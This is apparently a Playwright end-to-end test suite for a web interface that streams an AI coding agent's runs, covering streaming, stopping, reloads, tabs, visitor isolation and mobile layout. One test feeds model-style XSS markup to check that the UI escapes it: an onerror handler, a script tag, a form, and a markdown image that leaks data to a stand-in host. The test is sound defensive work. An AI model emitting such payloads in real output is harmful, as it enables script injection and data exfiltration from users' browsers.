"""What only a browser can show: that a run is seen while it happens, and that it stays."""

import re

import pytest
from playwright.sync_api import expect

from agentui.demo import DemoModel
from agentui.models.gate import Gate
from agentui.models.scripted import Reasoning
from tests.e2e.conftest import send
from tests.serving import eventually

pytestmark = pytest.mark.browser

ANSWER = "Let me compute.\n<code>\nprint(6 * 7)\nfinal_answer('It is 42')\n</code>"


def is_idle(page):
    """Only after something that the run itself has shown: before it starts, the page is idle too."""
    expect(page.locator("body[data-run=idle]")).to_be_attached()


def test_partial_text_shows_while_the_rest_is_held_back_and_stays(page, stage):
    gate = Gate()
    stage.plays(["Let me think ", "about it. ", gate, "Done thinking.\n<code>\nfinal_answer('It is 42')\n</code>"])
    send(page, "Say it")
    chat = page.locator("#chat")
    expect(chat).to_contain_text("Let me think about it.")
    expect(page.locator("#run-bar")).to_contain_text("Writing")
    assert "Done thinking" not in chat.inner_text()
    gate.open()
    expect(chat).to_contain_text("It is 42")
    expect(chat).to_contain_text("Let me think about it. Done thinking.")
    expect(page.locator("#run-bar")).to_contain_text("Completed")


def test_code_is_code_while_it_is_written_and_output_shows_while_it_runs(page, stage):
    written, ran = Gate(), Gate()
    stage.plays(
        ["Now.\n<code>\nimport time\n", "total = 1 +", written, " 1\nprint('first line', flush=True)\n"]
        + ["while not __import__('os').path.exists('go'): time.sleep(0.01)\n</code>"],
        [ran, "<code>final_answer(total)</code>"],
    )
    send(page, "Write")
    expect(page.locator("#chat code.language-python")).to_contain_text("total = 1 +")
    expect(page.locator("#run-bar")).to_contain_text("Writing code")
    written.open()
    expect(page.locator("#chat code.language-text")).to_contain_text("first line")
    expect(page.locator("#run-bar")).to_contain_text("Running code")
    page.locator("#stop").click()
    is_idle(page)
    expect(page.locator("#chat code.language-text")).to_contain_text("first line")


def test_stop_keeps_the_partial_text(page, stage):
    stage.plays(["Half of a ", "sentence", Gate(), " that never comes"])
    send(page, "Go")
    expect(page.locator("#chat")).to_contain_text("Half of a sentence")
    expect(page.locator("#send")).to_have_text("Queue")
    page.locator("#stop").click()
    expect(page.locator("#run-bar")).to_contain_text("Stopped")
    expect(page.locator("#chat")).to_contain_text("Half of a sentence")
    expect(page.locator("#chat")).to_contain_text("Stopped upstream closed after")
    expect(page.locator("#send")).to_have_text("Send")
    expect(page.locator("#usage-table tbody tr")).to_have_count(1)


def test_enter_sends_shift_enter_breaks_the_line_and_escape_stops(page, stage):
    stage.plays(["Working", Gate()])
    field = page.locator("#task-input textarea")
    field.press_sequentially("one")
    field.press("Shift+Enter")
    field.press_sequentially("two")
    expect(field).to_have_value("one\ntwo")
    field.press("Enter")
    expect(page.locator("#chat")).to_contain_text("Working")
    expect(field).to_have_value("")
    page.keyboard.press("Escape")
    expect(page.locator("#run-bar")).to_contain_text("Stopped")


def test_a_reload_during_a_run_attaches_to_it_again(page, stage, visitors):
    gate = Gate()
    stage.plays(
        "First.\n<code>print('one')</code>",
        ["Before the reload. ", gate, "<code>final_answer('after')</code>"],
    )
    send(page, "Go on")
    expect(page.locator("#chat")).to_contain_text("Before the reload.")
    visitors.reload(page)
    for text in ("Go on", "First.", "Before the reload."):
        expect(page.locator("#chat")).to_contain_text(text)
    expect(page.locator("#steps li")).to_have_count(2)
    expect(page.locator("body[data-run=running]")).to_be_attached()
    gate.open()
    expect(page.locator("#run-bar")).to_contain_text("Completed")
    expect(page.locator("#chat")).to_contain_text("after")


def test_a_second_tab_shows_the_same_run_live_and_can_stop_it(page, stage, visitors):
    stage.plays(["Seen in ", "both tabs", Gate()])
    send(page, "Go")
    expect(page.locator("#chat")).to_contain_text("Seen in both tabs")
    second = visitors.open(page.context)
    expect(second.locator("#chat")).to_contain_text("Seen in both tabs")
    second.locator("#stop").click()
    expect(page.locator("#run-bar")).to_contain_text("Stopped")
    expect(second.locator("#run-bar")).to_contain_text("Stopped")


def test_closing_the_page_ends_its_watches_but_not_the_run(page, stage, service, visitors):
    gate = Gate()
    stage.plays(["Half ", gate, "and the rest.\n<code>final_answer('done alone')</code>"])
    send(page, "Go")
    expect(page.locator("#chat")).to_contain_text("Half")
    (mine,) = [visitor for visitor in service.visitors if visitor.run is not None]
    assert len(mine.watches) == 2
    context = page.context
    page.close()
    assert eventually(lambda: not mine.watches)
    assert mine.run is not None
    gate.open()
    assert eventually(lambda: mine.run is None)
    expect(visitors.open(context).locator("#chat")).to_contain_text("done alone")


def test_two_visitors_do_not_see_each_other(page, stage, visitors):
    stage.plays(
        "<code>secret = 'mine alone'\nfinal_answer(secret)</code>", "<code>final_answer('secret' in dir())</code>"
    )
    other = visitors.open()
    send(page, "Keep this")
    expect(page.locator("#chat")).to_contain_text("mine alone")
    is_idle(page)
    expect(other.locator("#welcome")).to_be_visible()
    send(other, "What is there?")
    expect(other.locator("#chat")).to_contain_text("False")
    assert "mine alone" not in other.content()
    assert "What is there?" not in page.content()


def test_a_follow_up_task_goes_on_with_the_variables_and_new_chat_begins_anew(page, stage):
    stage.plays(
        "<code>x = 'kept'\nfinal_answer('the first answer')</code>",
        "<code>final_answer(x + ' for later')</code>",
        "<code>final_answer('forgotten' if 'x' not in dir() else 'remembered')</code>",
    )
    send(page, "First")
    expect(page.locator("#chat")).to_contain_text("the first answer")
    is_idle(page)
    send(page, "Second")
    expect(page.locator("#chat")).to_contain_text("kept for later")
    expect(page.locator(".au-runs option")).to_have_count(2)
    is_idle(page)
    page.locator("#new-chat").click()
    expect(page.locator("#welcome")).to_be_visible()
    expect(page.locator("#chat")).not_to_contain_text("kept for later")
    send(page, "Third")
    expect(page.locator("#chat")).to_contain_text("forgotten")


def test_an_example_runs_to_its_end_with_steps_usage_and_a_plot(page, stage):
    stage.model = DemoModel(delta_delay_s=0)
    page.get_by_role("button", name="A bakery's year").click()
    expect(page.locator("#run-bar")).to_contain_text("Completed", timeout=30_000)
    picture = page.locator("#chat .au-picture img")
    expect(picture).to_be_visible()
    assert picture.evaluate("image => image.decode().then(() => image.naturalWidth)") > 100
    expect(page.locator("#chat")).to_contain_text("Saturday is the best day")
    expect(page.locator("#steps li")).to_have_count(3)
    expect(page.locator("#usage-table tbody tr")).to_have_count(3)
    expect(page.locator("#usage-table tfoot")).to_contain_text("Total")
    first = page.locator("#steps button").first
    first.focus()
    page.keyboard.press("Enter")
    details = page.locator("#steps li").first
    for text in ("First delta", "Tokens in", "Code", "import pandas", "rows read: 1,098"):
        expect(details).to_contain_text(text)


def test_reasoning_folds_away_but_stays_in_the_page(page, stage):
    gate = Gate()
    stage.plays([Reasoning("A long "), Reasoning("reflection"), gate, "Now.\n<code>final_answer(1)</code>"])
    send(page, "Think")
    expect(page.locator("#chat details[open]")).to_contain_text("A long reflection")
    expect(page.locator("#run-bar")).to_contain_text("Thinking")
    gate.open()
    expect(page.locator("#run-bar")).to_contain_text("Completed")
    details = page.locator("#chat details.au-reasoning")
    expect(details).not_to_have_attribute("open", re.compile(".*"))
    assert "A long reflection" in details.text_content()
    details.locator("summary").click()
    expect(details.get_by_text("A long reflection")).to_be_visible()


def test_markup_of_a_model_is_shown_and_does_nothing(page, stage):
    evil = (
        "<img src=x onerror=\"window.hacked=1\"> <form action='https://example.com'><button>ok</button></form> "
        "![pic](https://example.com/leak.png?d=secret) </div></details><script>window.hacked=1</script>"
    )
    stage.plays(f"{evil}\n<code>print('<b>bold</b> \\x1b[31mred\\x1b[0m')\nfinal_answer({evil!r})</code>")
    send(page, evil)
    expect(page.locator("#run-bar")).to_contain_text("Completed")
    expect(page.locator("#chat")).to_contain_text("<script>window.hacked=1</script>")
    expect(page.locator("#chat code.language-text").first).to_contain_text("<b>bold</b> red")
    assert page.evaluate("window.hacked") is None
    assert page.locator("#chat :is(form, script, .md img)").count() == 0


def test_the_transcript_follows_until_somebody_scrolls_up(page, stage):
    first, second = Gate(), Gate()
    stage.plays(["line\n\n" * 60, first, "middle\n\n" * 30, second, "the end"], "<code>final_answer(1)</code>")
    send(page, "Long")
    chat = page.locator("#chat")
    at_end = "(() => { const { scrollHeight, scrollTop, clientHeight } = document.getElementById('chat');"
    at_end += " return scrollTop > 100 && scrollHeight - scrollTop - clientHeight < 30 })()"
    expect(page.locator("#live-step")).to_contain_text("line")
    page.wait_for_function(at_end)
    chat.hover()
    page.mouse.wheel(0, -600)
    expect(page.locator(".au-jump")).to_be_visible()
    top = chat.evaluate("chat => chat.scrollTop")
    first.open()
    expect(chat).to_contain_text("middle")
    assert chat.evaluate("chat => chat.scrollTop") == top
    page.locator(".au-jump").click()
    page.wait_for_function(at_end)
    second.open()
    is_idle(page)
    page.wait_for_function(at_end)


def test_lost_records_are_fetched_again(page, stage):
    stage.plays(ANSWER)
    send(page, "Go")
    expect(page.locator("#run-bar")).to_contain_text("Completed")
    page.evaluate(
        """() => {
            const { inspector } = agentui;
            const [run_id] = inspector.runs.keys();
            const chat = inspector.chat;
            inspector.reset(chat);
            inspector.feed({ chat, runs: [{ run_id, from_seq: 5, next_seq: 6, elapsed: 0, records: [] }] });
        }"""
    )
    expect(page.locator("#steps li")).to_have_count(1)
    expect(page.locator("#usage-table tbody tr")).to_have_count(1)
    expect(page.locator("#run-bar")).to_contain_text("Completed")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_phone_has_one_column_and_reaches_everything(visitors, stage, scheme):
    phone = visitors.open(viewport={"width": 390, "height": 844}, color_scheme=scheme, has_touch=True)
    stage.plays(["Some text " * 30, Gate()])
    send(phone, "Go")
    expect(phone.locator("#chat")).to_contain_text("Some text")
    assert phone.evaluate("document.documentElement.scrollWidth") <= 390
    phone.get_by_role("button", name="Steps and usage").tap()
    expect(phone.locator("#steps li")).to_have_count(1)
    phone.locator("#steps button").first.tap()
    expect(phone.locator("#steps li")).to_contain_text("Some text")
    phone.locator(".au-sheet-handle").tap()
    phone.locator("#stop").tap()
    expect(phone.locator("#run-bar")).to_contain_text("Stopped")
    phone.get_by_role("button", name="Settings").tap()
    expect(phone.locator("#base-url")).to_be_in_viewport()


def test_a_new_chat_asks_before_it_ends_a_run(page, stage):
    gate = Gate()
    stage.plays(["Working", gate, "<code>final_answer('done')</code>"])
    send(page, "Go")
    expect(page.locator("#chat")).to_contain_text("Working")
    asked = []
    page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
    page.locator("#new-chat").click()
    assert "stops it" in asked[0]
    gate.open()
    expect(page.locator("#run-bar")).to_contain_text("Completed")
    page.locator("#new-chat").click()
    expect(page.locator("#welcome")).to_be_visible()
    assert len(asked) == 1
